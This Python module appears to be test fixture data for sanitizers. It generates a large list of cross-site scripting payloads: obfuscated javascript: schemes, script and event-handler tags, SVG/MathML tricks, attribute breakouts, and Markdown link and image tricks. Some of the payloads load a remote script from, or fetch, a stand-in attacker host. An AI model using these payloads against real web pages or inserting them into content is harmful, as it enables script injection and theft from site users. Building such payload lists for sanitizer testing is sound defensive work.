"""Hostile payloads for every text field: script tags, event handlers, javascript: URLs written with
entities and mixed case, SVG and MathML tricks, broken markup, and Markdown link and image tricks."""

from __future__ import annotations

SCHEMES = [
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java&#x09;script:", "&#106;avascript:",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;", "javascript&colon;",
    " javascript:", "\x01javascript:", "jav&#x0A;ascript:", "vbscript:", "data:text/html;base64,PHNjcmlwdD4=",
]
CALLS = ["alert(1)", "confirm`1`", "prompt(document.domain)", "window.__xss=1", "fetch('//evil.example')"]

TAGS = [
    "<script>{call}</script>",
    "<ScRiPt>{call}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={call}>",
    "<img src=x OnErRoR={call}>",
    "<img/src=x/onerror={call}>",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><a xlink:href=\"javascript:{call}\"><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{call}>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    "<math href=\"javascript:{call}\">click</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:{call}>x</maction></math>",
    "<body onload={call}>",
    "<iframe src=\"javascript:{call}\"></iframe>",
    "<iframe srcdoc=\"<script>{call}</script>\"></iframe>",
    "<object data=\"javascript:{call}\"></object>",
    "<embed src=\"javascript:{call}\">",
    "<a href=\"javascript:{call}\">x</a>",
    "<a href=\"&#106;avascript:{call}\">x</a>",
    "<form action=\"javascript:{call}\"><button>x</button></form>",
    "<input autofocus onfocus={call}>",
    "<details open ontoggle={call}>",
    "<video><source onerror={call}></video>",
    "<audio src=x onerror={call}>",
    "<marquee onstart={call}>",
    "<div style=\"background:url(javascript:{call})\">x</div>",
    "<style>@import 'javascript:{call}';</style>",
    "<link rel=stylesheet href=\"javascript:{call}\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:{call}\">",
    "<base href=\"javascript:{call}//\">",
    "<noscript><p title=\"</noscript><img src=x onerror={call}>\">",
    "<!--<img src=\"--><img src=x onerror={call}//\">",
    "<img src=\"x\" onerror=\"{call}\"",
    "<<script>script>{call}<</script>/script>",
    "</title><script>{call}</script>",
    "</textarea><script>{call}</script>",
    "\"><script>{call}</script>",
    "'><img src=x onerror={call}>",
    "\" onmouseover=\"{call}\" x=\"",
    "' onfocus='{call}' autofocus='",
    "</script><script>{call}</script>",
    "{{{{7*7}}}}<script>{call}</script>",
    "<template><script>{call}</script></template>",
    "<select><option><img src=x onerror={call}></option></select>",
    "<table><td background=\"javascript:{call}\">",
    "<xss onpointerover={call}>hover</xss>",
    "<a href=javas&#99;ript:{call}>x</a>",
]
MARKDOWN = [
    "[click](javascript:{call})",
    "[click](JAVASCRIPT:{call})",
    "[click](javascript&#58;{call})",
    "[click]( javascript:{call} )",
    "[click](<javascript:{call}>)",
    "![img](javascript:{call})",
    "![img](x\" onerror=\"{call})",
    "[x](https://example.org\" onclick=\"{call})",
    "[ref][1]\n\n[1]: javascript:{call}",
    "<javascript:{call}>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](https://evil.example/pixel.png)",
    "```html\n<script>{call}</script>\n```",
    "> <img src=x onerror={call}>",
    "* [a](vbscript:{call})",
]


def payloads() -> list[str]:
    out: list[str] = []
    for template in TAGS + MARKDOWN:
        for call in CALLS[:3]:
            out.append(template.format(call=call))
    for scheme in SCHEMES:
        for call in CALLS[2:]:
            out.append(f"<a href=\"{scheme}{call}\">link</a>")
            out.append(f"[link]({scheme}{call})")
    return list(dict.fromkeys(out))
